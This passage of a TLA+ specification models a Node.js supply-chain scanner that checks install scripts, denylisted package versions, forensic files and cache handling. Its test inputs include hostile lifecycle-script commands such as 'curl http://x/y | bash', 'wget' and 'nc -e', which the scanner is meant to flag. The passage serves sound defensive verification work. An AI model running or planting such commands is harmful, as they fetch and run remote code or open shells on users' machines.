     visits |-> visits, call |-> newCall, crash |-> crash]
Return(frames) == Effect(frames, <<>>, scanStats, {}, {}, call, FALSE)
PackageCall(pkgPath, pkgName) ==
    [op |-> "checkPackageJson", path |-> pkgPath, name |-> pkgName,
     base |-> Len(detectedIssues), threw |-> FALSE]
LockfileCall(lockPath) ==
    [op |-> "checkLockfile", path |-> lockPath, name |-> "",
     base |-> Len(detectedIssues), threw |-> checkLockfileThrows(lockPath)]

\* scanNodeModules(modulesPath, ...) up to its loop; ok: modulesPath had
\* been validated
scanNodeModules(modulesPath, ok, stats, touches, visits, below) ==
    IF ~CanReaddir(modulesPath)
    THEN Effect(below, <<>>, [stats EXCEPT !.errorsEncountered = @ + 1],
                touches \cup {Touch("readdir", modulesPath, ok)}, visits, call, FALSE)
    ELSE Effect(Loop("modules", modulesPath, 0, readdirSync(modulesPath), "") \o below,
                <<>>, stats, touches \cup {Touch("readdir", modulesPath, ok)}, visits,
                call, FALSE)

\* variant: the ceiling is passed by one directory
atCeiling_Late(n) == n > MAX_DIRECTORIES_SCANNED
\* scanStats.directoriesScanned >= CONFIG.MAX_DIRECTORIES_SCANNED
atCeiling(n) == n >= MAX_DIRECTORIES_SCANNED

\* variant: one level more than the limit is entered
tooDeep_OneMore(depth, max) == depth > Min(max, MAX_SCAN_DEPTH) + 1
\* depth > Math.min(maxDepth, CONFIG.MAX_SCAN_DEPTH)
tooDeep(depth, max) == depth > Min(max, MAX_SCAN_DEPTH)

\* scanDir from scanStats.directoriesScanned++ on: currentPath is the path
\* itself (ok: it was validated) or the real path of a link
scanDirAt(f, below, currentPath, ok, looked, out) ==
    IF basename(currentPath) = "node_modules"
    THEN scanNodeModules(currentPath, ok, [scanStats EXCEPT !.directoriesScanned = @ + 1],
                         looked, {[path |-> currentPath, depth |-> f.depth]}, below)
    ELSE IF ~CanReaddir(currentPath)
    THEN Effect(below, <<>>,
                [scanStats EXCEPT !.directoriesScanned = @ + 1, !.errorsEncountered = @ + 1],
                looked \cup {Touch("readdir", currentPath, ok)},
                {[path |-> currentPath, depth |-> f.depth]}, call, FALSE)
    ELSE Effect(Loop("entries", currentPath, f.depth, readdirSync(currentPath), "") \o below,
                out.issues,
                [scanStats EXCEPT !.directoriesScanned = @ + 1, !.filesChecked = @ + 1,
                                  !.errorsEncountered = @ + out.errors],
                looked \cup {Touch("readdir", currentPath, ok)} \cup packageTouches(currentPath),
                {[path |-> currentPath, depth |-> f.depth]},
                PackageCall(currentPath, basename(currentPath)), FALSE)

\* scanDir from the symlink check on
scanDirChecked(f, below, validated, symlinkCheck) ==
    IF symlinkCheck.isSymlink /\ ~symlinkCheck.safe
    THEN Effect(below, <<>>, [scanStats EXCEPT !.symlinksSkipped = @ + 1],
                {Touch("lstat", validated, TRUE)}, {}, call, FALSE)
    ELSE IF symlinkCheck.isSymlink
    THEN scanDirAt(f, below, symlinkCheck.realPath, FALSE,
                   {Touch("lstat", validated, TRUE), Touch("realpath", validated, TRUE)},
                   checkPackageJson(symlinkCheck.realPath, basename(symlinkCheck.realPath)))
    ELSE scanDirAt(f, below, f.path, TRUE, {Touch("lstat", validated, TRUE)},
                   checkPackageJson(f.path, basename(f.path)))

scanDirValidated(f, below, validated) ==
    IF validated = NullPath THEN Return(below)
    ELSE scanDirChecked(f, below, validated, checkSymlink(validated))

\* scanDir(currentPath, badPackages, depth, maxDepth) up to its entry loop
scanDir(f, below) ==
    IF isShuttingDown THEN Return(below)
    ELSE IF atCeiling(scanStats.directoriesScanned) THEN Return(below)
    ELSE IF tooDeep(f.depth, maxDepth(args)) THEN Return(below)
    ELSE scanDirValidated(f, below, validatePath(f.path, NoBase))

\* one turn of the entry loop of scanDir
scanDirEntry(f, below) ==
    LET fullPath == Append(f.path, Head(f.rest))
        kind == DirentKind(f.path, Head(f.rest))
        next == Loop("entries", f.path, f.depth, Tail(f.rest), "") \o below
    IN  IF isShuttingDown THEN Return(below)
        ELSE IF kind = "file" /\ Head(f.rest) \in LockfileNames
        THEN Effect(next, checkLockfile(fullPath),
                    [scanStats EXCEPT !.lockfilesChecked = @ + 1],
                    {Touch("read", fullPath, FALSE)}, {}, LockfileCall(fullPath),
                    checkLockfileThrows(fullPath))
        ELSE IF kind = "dir" /\ Head(f.rest) = "node_modules"
        THEN scanNodeModules(fullPath, FALSE, scanStats, {}, {}, next)
        ELSE IF kind = "dir" /\ ~NameStartsWith(Head(f.rest), ".")
                /\ ~NameStartsWith(Head(f.rest), "_")
        THEN Return(<< ScanDirCall(fullPath, f.depth + 1) >> \o next)
        ELSE Return(next)

\* checkPackageJson(pkgPath, pkgName, ...) of a package of node_modules; then
\* come checkPackageLockfiles and scanStats.packagesScanned++
packageChecked(pkgPath, pkgName, next, out) ==
    Effect(Loop("locks", pkgPath, 0, lockFiles, "") \o next, out.issues,
           [scanStats EXCEPT !.filesChecked = @ + 1, !.errorsEncountered = @ + out.errors],
           packageTouches(pkgPath), {}, PackageCall(pkgPath, pkgName), FALSE)
packageEntry(pkgPath, pkgName, next) ==
    packageChecked(pkgPath, pkgName, next, checkPackageJson(pkgPath, pkgName))

\* one turn of the loop of scanNodeModules
modulesEntry(f, below) ==
    LET pkg == Head(f.rest)
        next == Loop("modules", f.path, 0, Tail(f.rest), "") \o below
        scopedPath == Append(f.path, pkg)
    IN  IF isShuttingDown THEN Return(below)
        ELSE IF NameStartsWith(pkg, ".") THEN Return(next)
        ELSE IF scanStats.packagesScanned >= MAX_PACKAGES_SCANNED THEN Return(below)
        ELSE IF NameStartsWith(pkg, "@")
        THEN IF ~CanReaddir(scopedPath)
             THEN Effect(next, <<>>, [scanStats EXCEPT !.errorsEncountered = @ + 1],
                         {Touch("readdir", scopedPath, FALSE)}, {}, call, FALSE)
             ELSE Effect(Loop("scope", scopedPath, 0, readdirSync(scopedPath), pkg) \o next,
                         <<>>, scanStats, {Touch("readdir", scopedPath, FALSE)}, {}, call, FALSE)
        ELSE packageEntry(Append(f.path, pkg), pkg, next)

\* one turn of the loop over the packages of a scope
scopeEntry(f, below) ==
    packageEntry(Append(f.path, Head(f.rest)), ScopedName(f.name, Head(f.rest)),
                 Loop("scope", f.path, 0, Tail(f.rest), f.name) \o below)

\* one turn of the loop of checkPackageLockfiles: what checkLockfile throws
\* is caught here
packageLockfile(f, below) ==
    LET lockPath == Append(f.path, Head(f.rest))
        next == Loop("locks", f.path, 0, Tail(f.rest), "") \o below
        after == IF Tail(f.rest) = <<>> THEN 1 ELSE 0
    IN  IF lstatIsFile(lockPath)
        THEN Effect(next, checkLockfile(lockPath),
                    [scanStats EXCEPT !.lockfilesChecked = @ + 1,
                                      !.packagesScanned = @ + after],
                    {Touch("lstat", lockPath, FALSE), Touch("read", lockPath, FALSE)}, {},
                    LockfileCall(lockPath), FALSE)
        ELSE Effect(next, <<>>, [scanStats EXCEPT !.packagesScanned = @ + after],
                    {Touch("lstat", lockPath, FALSE)}, {}, call, FALSE)

\* the step logs 'Directory scan limit reached': scanDir is entered with
\* the counter exactly at the ceiling
dirLimitLogged ==
    /\ stack # <<>> /\ Head(stack).op = "scanDir"
    /\ ~isShuttingDown
    /\ scanStats.directoriesScanned = MAX_DIRECTORIES_SCANNED
\* the step logs 'Package scan limit reached': a turn of the loop of
\* scanNodeModules finds the counter exactly at the ceiling
pkgLimitLogged ==
    /\ stack # <<>> /\ Head(stack).op = "modules"
    /\ ~isShuttingDown
    /\ ~NameStartsWith(Head(Head(stack).rest), ".")
    /\ scanStats.packagesScanned = MAX_PACKAGES_SCANNED

WalkUnchanged == UNCHANGED <<fs, badPackages, isShuttingDown, args, env, cache, fallback,
                             net, sent, feedData, clock, saved, outVars>>
\* an exception that leaves scanDir leaves main: an unhandled rejection
Apply(e) ==
    /\ stack' = IF e.crash THEN <<>> ELSE e.frames
    /\ detectedIssues' = detectedIssues \o e.issues
    /\ scanStats' = e.stats
    /\ touched' = touched \cup e.touches
    /\ visited' = visited \cup e.visits
    /\ warnings' = [dirLimit |-> warnings.dirLimit + (IF dirLimitLogged THEN 1 ELSE 0),
                    pkgLimit |-> warnings.pkgLimit + (IF pkgLimitLogged THEN 1 ELSE 0)]
    /\ call' = e.call
    /\ pc' = IF e.crash THEN "crashed" ELSE pc
    /\ exitCode' = IF ~e.crash THEN exitCode ELSE IF env.strictRejections THEN 1 ELSE 0
    /\ WalkUnchanged

Top(op) == pc = "scan" /\ stack # <<>> /\ Head(stack).op = op
ScanDir == Top("scanDir") /\ Apply(scanDir(Head(stack), Tail(stack)))
ScanDirEntry == Top("entries") /\ Apply(scanDirEntry(Head(stack), Tail(stack)))
ModulesEntry == Top("modules") /\ Apply(modulesEntry(Head(stack), Tail(stack)))
ScopeEntry == Top("scope") /\ Apply(scopeEntry(Head(stack), Tail(stack)))
PackageLockfile == Top("locks") /\ Apply(packageLockfile(Head(stack), Tail(stack)))

\* ------------------------------------------------------------------------
\* MAIN ENTRY POINT
\* ------------------------------------------------------------------------
MainUnchanged == UNCHANGED <<fs, badPackages, detectedIssues, scanStats, call, args, env,
                             cache, fallback, net, sent, feedData, clock, saved, walkVars>>

\* variant: a scan path that does not exist is let through
Start_NoExistsCheck ==
    /\ pc = "start"
    /\ IF help(args)
       THEN pc' = "help" /\ exitCode' = 0
       ELSE IF validatePath(inputPath(args), NoBase) = NullPath
       THEN pc' = "aborted" /\ exitCode' = 1
       ELSE pc' = "fetch" /\ exitCode' = exitCode
    /\ UNCHANGED <<isShuttingDown, outVars>>
    /\ MainUnchanged

\* main up to the first await: --help, the scan path, the options
Start ==
    /\ pc = "start"
    /\ IF help(args)
       THEN pc' = "help" /\ exitCode' = 0
       ELSE IF validatePath(inputPath(args), NoBase) = NullPath
               \/ ~Exists(validatePath(inputPath(args), NoBase))
       THEN pc' = "aborted" /\ exitCode' = 1
       ELSE pc' = "fetch" /\ exitCode' = exitCode
    /\ UNCHANGED <<isShuttingDown, outVars>>
    /\ MainUnchanged

\* escapeCSV(str): a leading = + - @ gets a quote in front, a value with a
\* space or a leading quote is wrapped in double quotes
escapeCSV(s) ==
    CASE s = "Ann Lee" -> "\"Ann Lee\""
      [] s = "=bob" -> "\"'=bob\""
      [] s = "Not Logged In" -> "\"Not Logged In\""
      [] OTHER -> s

\* getUserInfo(): the identity of the operator and the host
UserInfo(identity) ==
    [gitName |-> identity.gitName, gitEmail |-> identity.gitEmail,
     npmUser |-> identity.npmUser, hostname |-> "host", platform |-> "linux"]
InterruptedInfo == UserInfo(Identity("INTERRUPTED", "INTERRUPTED", "INTERRUPTED"))

\* generateReport(userInfo, isPartial, writeFile): csvContent, one row for
\* each issue of the ledger
ReportRow(userInfo, reportType, issue, stats) ==
    [Report_Type |-> reportType, Hostname |-> escapeCSV(userInfo.hostname),
     Git_User |-> escapeCSV(userInfo.gitName), Git_Email |-> escapeCSV(userInfo.gitEmail),
     NPM_User |-> escapeCSV(userInfo.npmUser), Platform |-> escapeCSV(userInfo.platform),
     Issue |-> issue, Directories_Scanned |-> stats.directoriesScanned,
     Packages_Scanned |-> stats.packagesScanned]
generateReport(userInfo, isPartial, issues, stats) ==
    [kind |-> IF isPartial THEN "PARTIAL" ELSE "COMPLETE",
     rows |-> [i \in 1..Len(issues) |->
                  ReportRow(userInfo, IF isPartial THEN "PARTIAL" ELSE "COMPLETE",
                            issues[i], stats)]]
NoReport == [kind |-> "none", rows |-> <<>>]

\* uploadReport: the payload of the POST request
uploadPayload(csvContent, userInfo, issues) ==
    [userInfo |-> [hostname |-> userInfo.hostname, platform |-> userInfo.platform],
     reportHash |-> computeHash(csvContent),
     issueCount |-> Len(issues),
     criticalCount |-> Len(SelectSeq(issues, LAMBDA i : i.type \in
                         {"FORENSIC_MATCH", "CRITICAL_SCRIPT", "VERSION_MATCH",
                          "WILDCARD_MATCH", "LOCKFILE_HIT", "WILDCARD_LOCK_HIT"})),
     report |-> csvContent]
NoPayload == [userInfo |-> "none"]

\* the system delivers SIGINT or SIGTERM to the process; the handler is run
\* by the event loop, not before main suspends or returns
Signal ==
    /\ pc \in {"fetch", "scan", "upload", "exit"}
    /\ ~pending
    /\ pending' = TRUE
    /\ UNCHANGED <<pc, exitCode, isShuttingDown, report, uploaded>>
    /\ MainUnchanged

\* handleShutdown(signal): runs while main is suspended at an await, or,
\* if the event loop still turns then, after main has returned without
\* process.exit
Interrupt ==
    /\ pending
    /\ pc \in {"fetch", "upload"} \/ (pc = "done" /\ ~failOnGiven(args))
    /\ ~isShuttingDown
    /\ isShuttingDown' = TRUE
    /\ report' = IF env.reportWritable
                 THEN generateReport(InterruptedInfo, TRUE, detectedIssues, scanStats)
                 ELSE report
    /\ pc' = "interrupted"
    /\ exitCode' = 130
    /\ UNCHANGED <<pending, uploaded>>
    /\ MainUnchanged

\* the summary, generateReport(userInfo, false, shouldGenerateReport) and
\* the start of uploadReport: a report file that cannot be written throws
\* out of main
Summarise ==
    /\ pc = "scan"
    /\ stack = <<>>
    /\ LET csv == generateReport(UserInfo(env.identity), FALSE, detectedIssues, scanStats)
           uploads == detectedIssues # <<>> /\ shouldUpload(args) /\ env.uploadUrl = "https"
       IN  IF shouldGenerateReport(args) /\ ~env.reportWritable
           THEN /\ pc' = "crashed"
                /\ exitCode' = IF env.strictRejections THEN 1 ELSE 0
                /\ UNCHANGED <<report, uploaded>>
           ELSE /\ pc' = IF uploads THEN "upload" ELSE "exit"
                /\ exitCode' = exitCode
                /\ report' = IF shouldGenerateReport(args) THEN csv ELSE report
                /\ uploaded' = IF uploads
                               THEN uploadPayload(csv, UserInfo(env.identity), detectedIssues)
                               ELSE uploaded
    /\ UNCHANGED <<isShuttingDown, pending>>
    /\ MainUnchanged

\* uploadReport settles: the response ended, the request failed or timed out
UploadSettled ==
    /\ pc = "upload"
    /\ pc' = "exit"
    /\ UNCHANGED <<isShuttingDown, exitCode, outVars>>
    /\ MainUnchanged

criticalTypes == {"FORENSIC_MATCH", "CRITICAL_SCRIPT", "VERSION_MATCH", "WILDCARD_MATCH",
                  "LOCKFILE_HIT", "WILDCARD_LOCK_HIT"}
warningTypes == {"SCRIPT_WARNING", "GHOST_PACKAGE", "CORRUPT_PACKAGE"}
Count(issues, types) == Len(SelectSeq(issues, LAMBDA i : i.type \in types))

\* variant: the warning threshold counts the critical kinds only
exitStatus_CriticalOnly(threshold, issues) ==
    IF threshold = "off" THEN 0
    ELSE IF Count(issues, criticalTypes) > 0 THEN 1 ELSE 0

\* the status the CI/CD exit code logic ends the process with
exitStatus(threshold, issues) ==
    CASE threshold = "off" -> 0
      [] threshold = "critical" -> IF Count(issues, criticalTypes) > 0 THEN 1 ELSE 0
      [] OTHER -> IF Count(issues, criticalTypes) > 0 \/ Count(issues, warningTypes) > 0
                  THEN 1 ELSE 0

\* CI/CD EXIT CODE LOGIC, or the end of main
ExitLogic ==
    /\ pc = "exit"
    /\ pc' = "done"
    /\ exitCode' = IF failOnGiven(args) THEN exitStatus(failOn(args), detectedIssues) ELSE 0
    /\ UNCHANGED <<isShuttingDown, outVars>>
    /\ MainUnchanged

\* ------------------------------------------------------------------------
\* Package check: the inputs explored
\* ------------------------------------------------------------------------
MaxChecks == 1

KeySets == { {}, {"images"}, {"aws"}, {"images", "aws"}, {"AWS_KEY"}, {"name"},
             {"PATH"}, {"info", "my_token"}, {"gcp_token"} }
StrSets == { {}, {"token"}, {"images"}, {"npm_config_cache"} }
JsonBodies ==
    { JsonDoc("object", k, s) : k \in KeySets, s \in StrSets }
    \cup { JsonDoc("null", {}, {}), JsonDoc("scalar", {}, {"token"}),
           JsonDoc("array", {"0"}, {"aws"}),
           Body("object", {"aws"}, MAX_JSON_KEYS + 1, {}, {}, {}, JsUndef, NoScripts) }
TextBodies ==
    { TextDoc(w, w) : w \in { {"hello"}, {"setup_bun"}, {"SETUP_BUN", "Webpack"},
                              {"child_process"}, {"webpack"}, {"token"} } }

ForensicNodes ==
    { DirNode, LinkNode, UnreadableFile, FileNode(0, EmptyBody),
      FileNode(6 * MB, TextDoc({"setup_bun"}, {"setup_bun"})),
      FileNode(2 * MB, TextDoc({"hello", "setup_bun"}, {"hello"})),
      FileNode(2 * MB, TextDoc({"setup_bun", "webpack"}, {"setup_bun"})),
      FileNode(2 * MB, JsonDoc("object", {"name"}, {"token"})),
      FileNode(2 * MB, JsonDoc("object", {"images"}, {"token"})) }
    \cup { FileNode(100, b) : b \in JsonBodies \cup TextBodies }

Commands ==
    { <<"tsc", "-p", "tsconfig.json">>,
      <<"curl", "http://x/y", "|", "bash">>,
      <<"tsc", "-p", "tsconfig.json", "&&", "curl", "http://x/y", "|", "bash">>,
      <<"echo", "hi", "&&", "curl", "http://x/y", "|", "bash">>,
      <<"node", "build.js">>,
      <<"wget", "http://x/y">>,
      <<"nc", "-e", "host">>,
      <<"node", "-e", "eval(x)">>,
      <<"tsc">>,
      <<"node", "setup_bun.js">> }

ScriptsObj(h) == [t |-> "object", hooks |-> h]
ScriptSets ==
    { NoScripts, [t |-> "string", hooks |-> <<>>] }
    \cup { ScriptsObj([k \in {"postinstall"} |-> CmdStr(c)]) : c \in Commands }
    \cup { ScriptsObj([k \in {"postinstall"} |-> c]) : c \in {CmdNum, CmdStr(<<>>)} }
    \cup { ScriptsObj([k \in {"test"} |-> CmdStr(<<"curl", "http://x/y", "|", "bash">>)]) }
    \cup { ScriptsObj([k \in {"preinstall", "postinstall"} |->
                          IF k = "preinstall" THEN CmdStr(a) ELSE CmdStr(b)]) :
             a \in { <<"curl", "http://x/y", "|", "bash">>, <<"wget", "http://x/y">>,
                     <<"tsc">> },
             b \in { <<"curl", "http://x/y", "|", "bash">>, <<"nc", "-e", "host">> } }

Versions == { JsUndef, JsNum("1"), JsStr(""), JsStr("1.2.3"), JsStr("9.9.9") }
ManifestNodes ==
    { UnreadableFile, DirNode, FileNode(60 * MB, EmptyBody), FileNode(0, EmptyBody),
      FileNode(100, TextDoc({"hello"}, {"hello"})),
      FileNode(100, JsonDoc("null", {}, {})), FileNode(100, JsonDoc("scalar", {}, {})),
      FileNode(100, JsonDoc("array", {"0"}, {})) }
    \cup { FileNode(100, Manifest(v, sc)) : v \in Versions, sc \in ScriptSets }

Denylist(names, vers) == [n \in names |-> vers[n]]
Denylists ==
    { [n \in {} |-> {}],
      [n \in {"left-pad"} |-> {"*"}],
      [n \in {"left-pad"} |-> {"1.2.3"}],
      [n \in {"left-pad"} |-> {"*", "1.2.3"}],
      [n \in {"left-pad", "@scope/evil"} |-> IF n = "left-pad" THEN {"1.2.3"} ELSE {"*"}] }

\* a tree that holds one package directory, one forensic file (or none) and
\* a manifest (or none)
Dirs(pkgPath) == [p \in { SubSeq(pkgPath, 1, i) : i \in 1..Len(pkgPath) } |-> DirNode]
TreeOf(pkgPath, files) ==
    [p \in DOMAIN Dirs(pkgPath) \cup { Join(pkgPath, f) : f \in DOMAIN files } |->
        IF p \in DOMAIN Dirs(pkgPath) THEN DirNode
        ELSE files[CHOOSE f \in DOMAIN files : Join(pkgPath, f) = p]]

GoodManifest == FileNode(100, Manifest(JsStr("1.2.3"), NoScripts))
PackageTrees ==
    \* forensic files of every kind, beside a plain manifest or none
    { TreeOf(d.path, [f \in {name, <<"package.json">>} |->
                         IF f = name THEN n ELSE GoodManifest]) :
        d \in PackageDirs, name \in ForensicNames, n \in ForensicNodes }
    \cup { TreeOf(d.path, [f \in {name} |-> n]) :
             d \in PackageDirs, name \in ForensicNames, n \in {FileNode(100, EmptyBody), DirNode} }
    \* manifests of every kind, alone or beside a forensic file
    \cup { TreeOf(d.path, [f \in {<<"package.json">>} |-> m]) :
             d \in PackageDirs, m \in ManifestNodes }
    \cup { TreeOf(d.path, [f \in {<<"bundle.js">>, <<"package.json">>} |->
                             IF f = <<"bundle.js">> THEN FileNode(100, TextDoc({"webpack"}, {"webpack"}))
                             ELSE m]) :
             d \in PackageDirs, m \in ManifestNodes }
    \cup { Dirs(d.path) : d \in PackageDirs }

\* values of the variables a specification leaves alone
NoWarnings == [dirLimit |-> 0, pkgLimit |-> 0]
IdleWalk == /\ stack = <<>>
            /\ warnings = NoWarnings
            /\ touched = {}
            /\ visited = {}
IdleOut == /\ pending = FALSE
           /\ report = NoReport
           /\ uploaded = NoPayload
IdleMain == /\ args = <<"proj">>
            /\ env = QuietEnv
            /\ exitCode = -1
            /\ IdleWalk
            /\ IdleOut
IdleFetch == /\ cache = [s \in Sources |-> CacheEntry(NoFile, FALSE, [st |-> "absent", data |-> computeHash(EmptyFeed)])]
             /\ fallback = [s \in Sources |-> NoFile]
             /\ net = [s \in Sources |-> NotCalled]
             /\ sent = {}
             /\ feedData = [s \in Sources |-> Unset]
             /\ clock = 1
             /\ saved = [s \in Sources |-> NeverSaved]

InitPkg ==
    /\ fs \in PackageTrees
    /\ badPackages \in Denylists
    /\ detectedIssues = <<>>
    /\ scanStats = ZeroStats
    /\ isShuttingDown = FALSE
    /\ call = NoCall
    /\ pc = "scan"
    /\ IdleMain
    /\ IdleFetch

NextPkg ==
    \E d \in PackageDirs : scanStats.filesChecked < MaxChecks /\ ScanPackage(d)

SpecPkg == InitPkg /\ [][NextPkg]_vars

\* ------------------------------------------------------------------------
\* Properties of the package check
\* ------------------------------------------------------------------------
\* the issues the check in `call` appended
Appended == SubSeq(detectedIssues, call.base + 1, Len(detectedIssues))
AppendedOf(types) == SelectSeq(Appended, LAMBDA i : i.type \in types)

\* the check in `call` was made on a package directory it accepts
Checked == call.op = "checkPackageJson" /\ validatePath(call.path, NoBase) # NullPath

ManifestPath == Join(call.path, <<"package.json">>)
\* ... and it read a manifest that is a JSON object
ManifestRead ==
    /\ Checked
    /\ safeReadFile(ManifestPath, MAX_FILE_SIZE_BYTES).error = "none"
    /\ fs[ManifestPath].size > 0
    /\ fs[ManifestPath].body.json = "object"
TheManifest == fs[ManifestPath].body

\* the only lifecycle hook of the manifest is postinstall, with command cmd
OnlyPostinstall(cmd) ==
    /\ ManifestRead
    /\ TheManifest.scripts.t = "object"
    /\ DOMAIN TheManifest.scripts.hooks = {"postinstall"}
    /\ TheManifest.scripts.hooks["postinstall"] = CmdStr(cmd)

CurlPipeBash == <<"curl", "http://x/y", "|", "bash">>
TscThenCurl == <<"tsc", "-p", "tsconfig.json", "&&">> \o CurlPipeBash

\* C2: checkScripts reports `curl http://x/y | bash` as exactly one
\* CRITICAL_SCRIPT tagged REMOTE_CODE_EXEC, and still reports a
\* CRITICAL_SCRIPT when the same command follows the whitelisted
\* `tsc -p tsconfig.json &&`: the whitelist exempts no compound command.
C2_CompoundStillCritical ==
    /\ OnlyPostinstall(CurlPipeBash) =>
          /\ Len(AppendedOf({"CRITICAL_SCRIPT"})) = 1
          /\ AppendedOf({"CRITICAL_SCRIPT"})[1].details[1] = "REMOTE_CODE_EXEC"
    /\ OnlyPostinstall(TscThenCurl) => Len(AppendedOf({"CRITICAL_SCRIPT"})) >= 1

\* the verdict of the version check: the issues without details among the
\* three verdict kinds (a dismissed forensic file is a SAFE_MATCH with details)
VerdictKinds == {"WILDCARD_MATCH", "VERSION_MATCH", "SAFE_MATCH"}
VersionVerdicts == SelectSeq(Appended, LAMBDA i : i.type \in VerdictKinds /\ i.details = <<>>)
ExpectedVerdict(version) ==
    IF "*" \in badPackages[call.name] THEN "WILDCARD_MATCH"
    ELSE IF version \in badPackages[call.name] THEN "VERSION_MATCH"
    ELSE "SAFE_MATCH"
VerdictAsClaimed ==
    /\ Len(VersionVerdicts) = 1
    /\ VersionVerdicts[1].type = ExpectedVerdict(TheManifest.version.v)
    /\ VersionVerdicts[1].version = TheManifest.version.v

\* C3 as stated: a watched package whose manifest declares a string version
\* gets exactly one of WILDCARD_MATCH, VERSION_MATCH, SAFE_MATCH, chosen with
\* the wildcard first.
C3_AnyStringVersion ==
    (ManifestRead /\ Watched(call.name) /\ TheManifest.version.t = "string")
        => VerdictAsClaimed

\* C3 (amended): a watched package whose manifest declares a non-empty string
\* version gets exactly one of WILDCARD_MATCH, VERSION_MATCH, SAFE_MATCH:
\* WILDCARD_MATCH whenever the denylist set holds "*", VERSION_MATCH when it
\* holds no "*" but the declared version, SAFE_MATCH otherwise; an empty
\* version string is reported as CORRUPT_PACKAGE instead.
C3_VersionVerdict ==
    (ManifestRead /\ Watched(call.name) /\ TheManifest.version.t = "string")
        => IF TheManifest.version.v # "" THEN VerdictAsClaimed
           ELSE /\ Len(VersionVerdicts) = 0
                /\ Len(AppendedOf({"CORRUPT_PACKAGE"})) = 1
C3_Witness ==
    /\ ManifestRead /\ Watched(call.name)
    /\ TheManifest.version = JsStr("1.2.3")
    /\ badPackages[call.name] = {"*", "1.2.3"}
    /\ Len(VersionVerdicts) = 1
    /\ VersionVerdicts[1].type = "WILDCARD_MATCH"

\* C4: a regular file named as a CRITICAL forensic rule is confirmed with
\* severity CRITICAL and reported as one FORENSIC_MATCH whatever its content
\* is (empty, unreadable, oversized, JSON or text).
CriticalNames == { f \in ForensicNames : FORENSIC_RULES(f).type = "CRITICAL" }
ForensicIssues(f, types) ==
    SelectSeq(Appended, LAMBDA i : i.type \in types /\ i.details # <<>>
                                   /\ (IsPrefix(f, i.details)
                                       \/ IsPrefix(<<"Benign">> \o f, i.details)))
JsonRuleNames == { f \in ForensicNames : FORENSIC_RULES(f).isJson }
HasAllowlistedKey(f) ==
    /\ lstatIsFile(Join(call.path, f))
    /\ fs[Join(call.path, f)].err = "none"
    /\ fs[Join(call.path, f)].body.json \in {"object", "array"}
    /\ fs[Join(call.path, f)].body.keys \cap FORENSIC_RULES(f).safeKeys # {}
C5_AllowlistWins ==
    \A f \in JsonRuleNames :
        (Checked /\ HasAllowlistedKey(f))
            => /\ ~verifySuspiciousFile(Join(call.path, f), f).confirmed
               /\ Len(ForensicIssues(f, {"FORENSIC_MATCH", "FORENSIC_ARTIFACT"})) = 0
               /\ Len(ForensicIssues(f, {"SAFE_MATCH"})) = 1
C5_Witness ==
    /\ Checked
    /\ HasAllowlistedKey(<<"contents.json">>)
    /\ "aws" \in fs[Join(call.path, <<"contents.json">>)].body.keys
    /\ "token" \in fs[Join(call.path, <<"contents.json">>)].body.strs
    /\ Len(ForensicIssues(<<"contents.json">>, {"SAFE_MATCH"})) = 1
    /\ ForensicIssues(<<"contents.json">>, {"SAFE_MATCH"})[1].details[3]
          = "Contains whitelisted JSON keys"
\* ------------------------------------------------------------------------
\* Feed fetching: the inputs explored
\* ------------------------------------------------------------------------
CsvA == Feed("csv", "invalid",
             << Row("package_name", TRUE, <<JsStr("version")>>),
                Row("'left-pad'", TRUE, <<JsStr("v1.2.3"), JsStr("=2.0.0")>>),
                Row("Bad Name", TRUE, <<JsStr("1.0.0")>>),
                Row("left-pad", TRUE, <<JsStr("1.2.4"), JsStr(" ")>>) >>)
CsvB == Feed("csv", "invalid",
             << Row(" evil ", TRUE, <<JsStr("6.6.6")>>),
                Row("ghost", TRUE, <<JsStr(" ")>>) >>)
JsonA == Feed("json", "object",
              << Row("left-pad", TRUE, <<JsStr("1.2.3"), JsNum("7"),
                                         JsStr("VERSION-LONGER-THAN-50")>>),
                 Row("@scope/evil", FALSE, <<>>),
                 Row("", TRUE, <<JsStr("1.0.0")>>) >>)
JsonB == Feed("json", "object",
              << Row("evil", TRUE, <<JsStr("6.6.7")>>), Row("ghost", TRUE, <<>>) >>)
JsonArray == Feed("json", "array", <<>>)
Garbage == Feed("garbage", "invalid", <<>>)

FetchCommandLines == { <<"proj">>, <<"proj", "--no-cache">> }

\* the payloads a source's cache file and fallback file may hold, and the
\* bodies its URL may serve
Payloads(s) == IF s = "wiz" THEN {EmptyFeed, CsvA, CsvB} ELSE {EmptyFeed, JsonA, JsonB}
Bodies(s) == IF s = "wiz" THEN {EmptyFeed, CsvA} ELSE {EmptyFeed, JsonA}

PayloadFiles(s) == {NoFile, File("unreadable", EmptyFeed)} \cup { File("ok", d) : d \in Payloads(s) }
FallbackFiles(s) == {NoFile, File("unreadable", EmptyFeed)} \cup { File("ok", d) : d \in Bodies(s) }
HashFile(st, d) == [st |-> st, data |-> computeHash(d)]
HashFiles(s) ==
    {HashFile("absent", EmptyFeed), HashFile("unreadable", EmptyFeed)}
    \cup { HashFile("ok", d) : d \in Payloads(s) }
NoEntry == CacheEntry(NoFile, FALSE, HashFile("absent", EmptyFeed))
\* entries younger than the TTL: every state of the pair of files
FreshEntries(s) ==
    { CacheEntry(f, TRUE, h) : f \in PayloadFiles(s) \ {NoFile}, h \in HashFiles(s) }
\* entries older than the TTL (their content is never read), and no entry
StaleEntries(s) ==
    { CacheEntry(File("ok", d), FALSE, h) :
        d \in Bodies(s) \ {EmptyFeed},
        h \in {HashFile("absent", EmptyFeed)} \cup { HashFile("ok", e) : e \in Payloads(s) \ {EmptyFeed} } }
    \cup {NoEntry}
CacheEntries(s) == FreshEntries(s) \cup StaleEntries(s)

\* what the variables of the scan hold while the feeds are fetched
IdleScan ==
    /\ fs = Dirs(<<"proj">>)
    /\ badPackages = [n \in {} |-> {}]
    /\ detectedIssues = <<>>
    /\ scanStats = ZeroStats
    /\ isShuttingDown = FALSE
    /\ call = NoCall
    /\ env = QuietEnv
    /\ exitCode = -1
    /\ IdleWalk
    /\ IdleOut

\* one run of fetchThreats from any state of one source's files, the other
\* source having no cache
InitFetch ==
    /\ IdleScan
    /\ pc = "fetch"
    /\ \E v \in Sources :
         /\ args \in FetchCommandLines
         /\ cache \in [Sources -> UNION { CacheEntries(s) : s \in Sources }]
         /\ \A s \in Sources :
              cache[s] \in (IF s # v THEN {NoEntry}
                            ELSE IF noCache(args) THEN {NoEntry, CacheEntry(File("ok", CHOOSE d \in Bodies(s) : FeedTruthy(d)),
                                                                      TRUE, HashFile("ok", CHOOSE d \in Bodies(s) : FeedTruthy(d)))}
                            ELSE CacheEntries(s))
